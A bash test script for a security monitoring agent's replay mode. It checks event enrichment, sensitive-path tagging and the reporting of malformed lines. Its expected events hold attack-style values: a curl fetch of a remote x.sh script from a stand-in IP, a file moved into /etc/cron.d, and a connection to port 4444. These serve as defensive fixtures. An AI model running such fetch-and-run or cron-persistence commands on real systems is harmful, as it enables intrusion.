#!/usr/bin/env bash
# The replay source: ECS lines in, the same events out (enriched with host and sequence), bad
# lines counted and named by line number, never fatal. Needs no root.
source "$(dirname "$0")/lib/common.bash"
in=$MAMORI_SRC/tests/data/replay/events.jsonl

"$AGENT" capture --replay "$in" --host-name replay-host >"$WORK/out" 2>"$WORK/log" || {
  cat "$WORK/log"; fail "capture --replay exited $?"; }
expect "$WORK/out" "exec with args" \
  "g(e,'event.action')=='exec' and g(e,'process.args')==['curl','-s','http://203.0.113.7/x.sh'] and g(e,'process.command_line')=='curl -s http://203.0.113.7/x.sh'"
expect "$WORK/out" "rename keeps both paths" \
  "g(e,'event.action')=='rename' and g(e,'file.path')=='/etc/cron.d/job' and g(e,'file.Ext.original.path')=='/tmp/job'"
expect "$WORK/out" "sensitive path tagged" \
  "g(e,'event.action')=='rename' and 'sensitive' in (g(e,'tags') or [])"
expect "$WORK/out" "category derived" "g(e,'event.category')==['network'] and g(e,'destination.port')==4444"
expect "$WORK/out" "host filled" "g(e,'host.name')=='replay-host'"
expect "$WORK/out" "sequence numbers" "g(e,'event.sequence')==1"
n=$(jcount "$WORK/out" "g(e,'event.kind')=='event'")
[ "$n" -eq 5 ] || fail "expected 5 events, got $n"
grep -q "line 3 skipped: malformed JSON" "$WORK/log" || { cat "$WORK/log"; fail "bad line not reported"; }
grep -q "line 5 skipped: unknown event.action" "$WORK/log" || fail "unknown action not reported"
grep -q "malformed=3" "$WORK/log" || { cat "$WORK/log"; fail "malformed count"; }
expect "$WORK/out" "final counters" "g(e,'event.action')=='agent_drops' and g(e,'mamori.events.total')==5"
echo "ok: replay"

# Stdin works too, and an empty input is a clean, empty capture.
"$AGENT" capture --replay - <"$in" >"$WORK/out2" 2>/dev/null
[ "$(jcount "$WORK/out2" "g(e,'event.kind')=='event'")" -eq 5 ] || fail "stdin replay"
"$AGENT" capture --replay - </dev/null >"$WORK/out3" 2>/dev/null
[ "$(jcount "$WORK/out3" "g(e,'event.kind')=='event'")" -eq 0 ] || fail "empty replay"
echo "ok: stdin"
